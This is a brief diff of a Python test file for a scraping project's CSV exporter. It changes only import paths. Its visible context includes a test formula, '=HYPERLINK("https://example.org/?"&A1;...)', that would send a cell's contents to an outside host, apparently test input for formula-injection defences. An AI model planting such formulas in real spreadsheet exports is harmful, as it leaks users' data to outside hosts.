@@ -14,8 +14,9 @@ from sc_spiders.feeds.formats import CsvPageExporter
 from sc_spiders.pages.listing import Listing
 from sc_spiders.pages.page import Page
 from tests.dataset import make
-from tests.faults.server import Server, http, user
+from tests.support.answers import http, user
 from tests.support.crawl import Crawls
+from tests.support.server import Server
 
 FORMULAS = (
     '=HYPERLINK("https://example.org/?"&A1;"more")',
